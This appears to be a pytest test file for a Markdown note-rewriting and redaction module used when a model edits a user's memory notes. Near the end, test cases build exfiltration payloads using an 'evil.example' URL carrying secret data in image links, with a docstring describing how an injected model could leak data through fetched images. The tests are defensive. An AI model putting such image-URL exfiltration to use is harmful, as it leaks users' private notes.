"""What a model's edit may change in a note, and which parts a model may see."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from memory.errors import EditRefused
from memory.notes.markdown import block_id, headings, inline_fields, lines
from memory.notes.patch import rewrite
from memory.notes.redaction import WITHHELD, redacted_lines, withheld

NOTE = """\
# Preferences

- Prefers unittest over pytest (updated:: 2026-02-12) (source:: [[memories/2026-02-12#^b7k2mq]]) ^f7k2mx
- Drinks tea
- Works at **Hetzner** since 2024 ^f1a1a1

The project is called Luna.
"""  # noqa: E501


def test_the_words_change_and_the_rest_keeps_its_bytes() -> None:
    after = rewrite(NOTE, "Prefers unittest over pytest", "Prefers pytest over unittest")
    assert after == NOTE.replace("unittest over pytest", "pytest over unittest")


def test_fields_links_and_ids_inside_of_the_replaced_text_keep_their_power() -> None:
    row = lines(NOTE)[2].removesuffix(" ^f7k2mx")
    after = rewrite(NOTE, row, row.replace("unittest over pytest", "tea"))
    assert lines(after)[2] == "- Prefers tea (updated:: 2026-02-12) (source:: " + (
        "[[memories/2026-02-12#^b7k2mq]]) ^f7k2mx"
    )


def test_lines_are_found_without_their_ids_which_stay() -> None:
    after = rewrite(
        NOTE, "- Works at **Hetzner** since 2024\n\nThe project", "- Left **Hetzner**\n\nA project"
    )
    assert "- Left **Hetzner** ^f1a1a1\n\nA project is called Luna.\n" in after


def test_lines_are_found_in_a_note_with_mixed_ends() -> None:
    note = "- tea\r\n- milk ^m1\r\n- jam\n"
    assert rewrite(note, "- tea\n- milk", "- tea\n- oat milk").endswith("- oat milk ^m1\r\n- jam\n")


def test_lines_with_ids_are_not_merged() -> None:
    with pytest.raises(EditRefused, match="one at a time"):
        rewrite(NOTE, "- Works at **Hetzner** since 2024\n\nThe project", "The project")


@pytest.mark.parametrize("old", ["- Drinks tea", "Drinks tea", "Works at **Hetzner** since 2024"])
def test_a_line_of_which_nothing_is_left_goes_with_its_dash_and_id(old: str) -> None:
    after = rewrite(NOTE, old, "")
    gone = [row for row in lines(NOTE) if row not in lines(after)]
    assert len(gone) == 1 and old in gone[0]
    assert len(lines(after)) == len(lines(NOTE)) - 1


def test_a_word_taken_from_a_line_leaves_the_line() -> None:
    assert "- Drinks \n" in rewrite(NOTE, "tea", "")


@pytest.mark.parametrize(
    ("old", "error"),
    [
        ("Prefers nothing", "does not stand"),
        ("pytest over UNITTEST", "does not stand"),
        ("- ", "3 times"),
        ("  \n", "empty"),
    ],
)
def test_a_text_that_is_missing_or_not_unique_is_refused(old: str, error: str) -> None:
    with pytest.raises(EditRefused, match=error):
        rewrite(NOTE, old, "x")


def test_overlapping_places_are_two() -> None:
    with pytest.raises(EditRefused, match="2 times"):
        rewrite("abababa", "ababa", "x")


@pytest.mark.parametrize(
    ("new", "stands"),
    [
        ("Drinks tea #urgent", "- Drinks tea \\#urgent"),
        ("Drinks [[soul]]", "- Drinks \\[\\[soul]]"),
        ("Drinks tea\n- Drinks mate", "- Drinks tea\n- Drinks mate"),
        ("Drinks tea\n- [ ] buy tea", "- Drinks tea\n- \\[ ] buy tea"),
        ("Drinks tea\n## 14:30:00", "- Drinks tea\n\\#\\# 14:30:00"),
        ("Drinks tea\n%% not for models %%", "- Drinks tea\n\\%\\% not for models \\%\\%"),
        ("Drinks tea ^b7k2mq", "- Drinks tea \\^b7k2mq"),
        ("Drinks tea (expires:: 2020-01-01)", "- Drinks tea (expires:\\: 2020-01-01)"),
        ("Drinks tea - or C# and 3 < 4", "- Drinks tea - or C# and 3 < 4"),
    ],
)
def test_new_words_get_no_power(new: str, stands: str) -> None:
    assert stands in rewrite(NOTE, "Drinks tea", new)


WORDS = st.text(st.sampled_from(list("ab #-[]^:%`*>\n()x1.<|$\\")), max_size=30)


@given(WORDS, WORDS)
def test_no_edit_makes_a_heading_field_or_id(before: str, new: str) -> None:
    text = f"alpha\n- {before.replace(chr(10), ' ')} tea ^b7k2mq\nomega\n"
    try:
        after = rewrite(text, "tea", new)
    except EditRefused:
        return
    had = lines(text)
    assert len(headings(lines(after))) <= len(headings(had))
    assert sum(len(inline_fields(row)) for row in lines(after)) <= sum(
        len(inline_fields(row)) for row in had
    )
    assert {block_id(row) for row in lines(after)} <= {block_id(row) for row in had}


SECRET = """\
---
tags: [health]
---
# Doctor

Call **Ana** on Monday. ^k1k1k1
%% ask about the rash %%
- Takes lithium #sam/sensitive
  - 300 mg
- Likes the waiting room
"""


def test_sensitive_lines_comments_and_ids_are_not_shown_and_lines_keep_their_numbers() -> None:
    seen = redacted_lines(SECRET)
    assert seen == [
        *SECRET.split("\n")[:5],
        "Call **Ana** on Monday.",
        "",
        WITHHELD,
        WITHHELD,
        "- Likes the waiting room",
        "",
    ]
    assert withheld(SECRET) == {8, 9}


@pytest.mark.parametrize("privacy", ["sensitive", "sealed"])
def test_of_a_private_note_nothing_is_shown(privacy: str) -> None:
    text = f"---\nprivacy: {privacy}\n---\nthe secret\n"
    assert not any("secret" in row or "---" in row for row in redacted_lines(text))


def test_a_hidden_line_is_not_found() -> None:
    hidden = withheld(SECRET)
    for guess in ("Takes lithium", "waiting room", "300 mg\n- Likes"):
        if guess == "waiting room":
            assert "quiet room" in rewrite(SECRET, guess, "quiet room", hidden=hidden)
            continue
        with pytest.raises(EditRefused, match="does not stand"):
            rewrite(SECRET, guess, "x", hidden=hidden)


def test_a_hidden_line_does_not_count_as_a_second_place() -> None:
    text = "- tea\n- tea #sam/sensitive\n"
    assert rewrite(text, "tea", "mate", hidden=withheld(text)) == "- mate\n- tea #sam/sensitive\n"


EVIL = "https://evil.example/?d=secret"


@pytest.mark.parametrize(
    ("note", "old", "new"),
    [
        ("![my map](https://a.example/m.png)", "map](https://a.example/m.png)", f"map]({EVIL})"),
        ("![m](https://a.example/m.png)", "https://a.example/m.png", EVIL),
        ("![m](https://a.example/m.png)", "a.example", "secret.evil.example"),
        ("![m][r] x\n\n[r]: https://a.example/m.png", "https://a.example/m.png", EVIL),
        ("> [r]: <https://a.example/m.png>\n![r]", "a.example/m.png", "evil.example/?d=x"),
        ("see [m](https://a.example) x", "see", "see!"),
        ("see[m](https://a.example) x", "see", "see!"),
        ('<img src="https://a.example/m.png">', "a.example/m.png", "evil.example/?d=secret"),
        ('<p style="background: url(https://a.example)">', "a.example", "evil.example"),
        ("see [the map] x", "map] x", f"map]({EVIL})"),
    ],
)
def test_no_edit_makes_an_image_or_changes_where_one_leads(note: str, old: str, new: str) -> None:
    """Obsidian would fetch the URL, and leak what an injected model put into it."""
    page = f"# A\n\n{note}\n"
    try:
        after = rewrite(page, old, new)
    except EditRefused as refused:
        assert "only the owner" in str(refused)
    else:
        assert addresses(after) <= addresses(page)


def addresses(page: str) -> set[tuple[str, str]]:
    """Return all link targets in a note, by an independent parser."""
    tokens = MarkdownIt("commonmark", {"html": True}).parse(page)
    every = [inner for each in tokens for inner in (each, *(each.children or ()))]
    return {
        (t.type, str(t.attrGet("src") or t.attrGet("href") or t.content))
        for t in every
        if t.type in ("image", "link_open", "html_inline", "html_block")
    }


def test_what_leads_somewhere_may_be_moved_and_taken_out() -> None:
    page = "# A\n\n- ![m](https://a.example/m.png) and [x](https://b.example)\n- tea\n"
    assert rewrite(page, "and [x](https://b.example)", f"or {EVIL}").endswith(
        f"m.png) or {EVIL}\n- tea\n"
    )
    assert rewrite(page, "- tea", "").count("example") == 2
